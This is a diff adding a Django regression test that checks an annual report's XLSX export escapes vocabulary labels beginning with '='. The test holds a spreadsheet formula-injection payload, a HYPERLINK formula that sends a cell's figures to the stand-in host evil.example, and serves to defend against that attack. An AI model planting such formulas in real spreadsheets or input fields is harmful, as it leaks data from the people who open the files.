@@ -97,3 +97,21 @@ def test_the_command_writes_both_files(world, tmp_path):
     except FileNotFoundError:
         return  # poppler-utils not installed: the PDF's text is not read here
     assert "Торговля людьми" in text or "торговл" in text.lower()
+
+
+@pytest.mark.django_db
+def test_a_label_that_looks_like_a_formula_is_text_in_the_workbook(world, client):
+    """Formula injection (review 2): a vocabulary label is typed by an administrator; in the annual report's
+    XLSX openpyxl wrote a label starting with `=` as a live formula, which the spreadsheet ran when the
+    supervisor opened the file (a HYPERLINK that sends the sheet's figures away). It is text now."""
+    from nicat.vocab.models import Term
+
+    payload = '=HYPERLINK("http://evil.example/?"&B5,"Forced labour")'
+    Term.objects.filter(vocabulary="exploitation", code="forced_labour").update(label_en=payload)
+    client.force_login(world.md_supervisor)
+    xlsx = client.get(reverse("statistics:annual_report"),
+                      {"year": 2025, "language": "en", "edition": "internal", "format": "xlsx"})
+    assert xlsx.status_code == 200
+    cells = [c for ws in load_workbook(io.BytesIO(xlsx.content)).worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "the workbook holds a formula"
+    assert "'" + payload in [c.value for c in cells]  # still readable, as text
